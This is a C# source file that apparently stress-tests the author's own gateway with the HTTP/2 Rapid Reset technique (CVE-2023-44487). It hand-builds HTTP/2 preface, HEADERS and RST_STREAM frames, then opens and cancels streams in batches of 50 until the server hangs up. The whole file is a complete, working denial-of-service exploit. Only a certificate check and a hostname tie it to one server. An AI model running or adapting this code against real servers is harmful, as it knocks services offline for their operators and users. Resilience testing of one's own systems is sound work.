using System.Buffers.Binary;
using System.Net;
using System.Net.Security;
using System.Net.Sockets;
using System.Security.Authentication;
using System.Text;

namespace Cutout.Edge;

/// <summary>
/// HTTP/2 frames by hand: streams that are opened and reset at once, as many as the other side bears. A server that keeps
/// something of each, or goes on working for it, is soon busy with nothing else (CVE-2023-44487).
/// Source: RFC 9113, sections 4.1, 6.2 and 6.4; RFC 7541, appendix A.
/// </summary>
internal static class RapidReset
{
    private const int FrameHeader = 9;
    private const int StreamNumber = 5;
    private const byte HeadersFrame = 1;
    private const byte ResetFrame = 3;
    private const byte SettingsFrame = 4;
    private const byte EndOfStreamAndHeaders = 0x5;
    private const byte Cancel = 8;
    private const int StreamsAtOnce = 50;

    private static readonly byte[] Preface = Encoding.ASCII.GetBytes("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");

    // ":method: GET", ":scheme: https", and literals without indexing for ":path" and ":authority".
    private static readonly byte[] Request = [0x82, 0x87, .. Literal(0x04, "/v1/operations"), .. Literal(0x01, "gateway")];

    // One stream opened and reset. Made once, for what this costs must not be taken for what it costs the server.
    private static readonly byte[] Pair = [.. Frame(HeadersFrame, EndOfStreamAndHeaders, 0, Request), .. Frame(ResetFrame, 0, 0, [0, 0, 0, Cancel])];

    /// <summary>How many streams were sent before the server hung up, or all of <paramref name="streams"/>.</summary>
    /// <param name="address">Of the server, over TLS.</param>
    /// <param name="from">An address of this machine.</param>
    /// <param name="streams">As many at most.</param>
    /// <param name="cancellationToken">Ends it.</param>
    public static async Task<int> RunAsync(Uri address, IPAddress from, int streams, CancellationToken cancellationToken)
    {
        using var socket = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);
        socket.Bind(new IPEndPoint(from, 0));
        await socket.ConnectAsync(IPAddress.Parse(address.Host), address.Port, cancellationToken);
        await using var connection = new SslStream(new NetworkStream(socket));
        await connection.AuthenticateAsClientAsync(new SslClientAuthenticationOptions
        {
            TargetHost = "localhost",
            ApplicationProtocols = [SslApplicationProtocol.Http2],
            EnabledSslProtocols = SslProtocols.Tls12 | SslProtocols.Tls13,
            RemoteCertificateValidationCallback = OwnCertificate.IsOwn,
        }, cancellationToken);
        await connection.WriteAsync((byte[])[.. Preface, .. Frame(SettingsFrame, 0, 0, [])], cancellationToken);
        var reading = DrainAsync(connection);
        var (sent, pairs) = (0, Enumerable.Repeat(Pair, StreamsAtOnce).SelectMany(pair => pair).ToArray());
        try
        {
            while (sent < streams && !reading.IsCompleted)
            {
                var count = Math.Min(StreamsAtOnce, streams - sent);
                Number(pairs, sent, count);
                await connection.WriteAsync(pairs.AsMemory(0, count * Pair.Length), cancellationToken);
                sent += count;
            }
        }
        catch (IOException)
        {
            // The server has hung up.
        }

        return sent;
    }

    // A client's streams have odd numbers; both frames of each have the same.
    private static void Number(byte[] pairs, int first, int count)
    {
        for (var i = 0; i < count; i++)
        {
            var stream = (2 * (first + i)) + 1;
            var pair = pairs.AsSpan(i * Pair.Length, Pair.Length);
            BinaryPrimitives.WriteInt32BigEndian(pair[StreamNumber..], stream);
            BinaryPrimitives.WriteInt32BigEndian(pair[(FrameHeader + Request.Length + StreamNumber)..], stream);
        }
    }

    private static byte[] Frame(byte type, byte flags, int stream, byte[] payload)
    {
        var frame = new byte[FrameHeader + payload.Length];
        BinaryPrimitives.WriteInt32BigEndian(frame, payload.Length << 8);
        (frame[3], frame[4]) = (type, flags);
        BinaryPrimitives.WriteInt32BigEndian(frame.AsSpan(5), stream);
        payload.CopyTo(frame, FrameHeader);
        return frame;
    }

    private static byte[] Literal(byte name, string value) => [name, (byte)value.Length, .. Encoding.ASCII.GetBytes(value)];

    private static async Task DrainAsync(SslStream connection)
    {
        var buffer = new byte[16 * 1024];
        try
        {
            while (await connection.ReadAsync(buffer) > 0)
            {
                // What it says doesn't matter; it must be able to say it.
            }
        }
        catch (Exception end) when (end is IOException or ObjectDisposedException)
        {
            // Hung up, by either side.
        }
    }
}
